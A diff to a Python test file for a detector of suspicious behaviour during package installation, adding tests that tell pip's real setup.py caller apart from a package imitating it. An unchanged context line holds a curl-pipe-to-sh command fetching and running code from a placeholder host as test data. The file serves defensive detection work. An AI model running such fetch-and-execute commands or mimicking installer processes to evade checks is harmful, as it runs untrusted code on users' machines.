@@ -50,6 +50,28 @@ def test_the_installer_and_ordinary_acts_say_nothing() -> None:
     assert behaviour.findings(report(*events)) == []
 
 
+CALLER = "\nexec(compile('''\n# This is <pip-setuptools-caller> -- a caller that pip uses to run setup.py"
+PIP = run("/usr/bin/python3", "-m", "pip", "install", "x.tar.gz", pid=26, installer=True)
+
+
+def test_how_pip_runs_a_setup_py_is_not_the_package_s_deed() -> None:
+    events = [PIP, run("/usr/bin/python3", "-u", "-c", CALLER, "bdist_wheel", pid=29, ppid=26)]
+    assert behaviour.findings(report(*events)) == []
+
+
+@pytest.mark.parametrize(
+    "events",
+    [
+        [run("/usr/bin/python3", "-c", CALLER, pid=29, ppid=26)] * 2,
+        [run("/usr/bin/python3", "setup.py", pid=29, ppid=26), run("/usr/bin/python3", "-c", CALLER, pid=30, ppid=29)],
+        [run("/usr/bin/python3", "-c", "exec('''" + CALLER, pid=29, ppid=26)],
+    ],
+    ids=["in its own place", "by its own child", "with more before it"],
+)
+def test_a_package_that_dresses_up_as_pip_is_told(events: list[dict[str, Any]]) -> None:
+    assert [one.rule for one in behaviour.findings(report(PIP, *events))] == ["dynamic-inline-code"]
+
+
 def test_what_is_run_on_request_weighs_less() -> None:
     event = run("sh", "-c", "curl -s https://c.example/x | sh")
     levels = [behaviour.findings(report(event, phase=phase))[0].level for phase in ("import", "execute")]
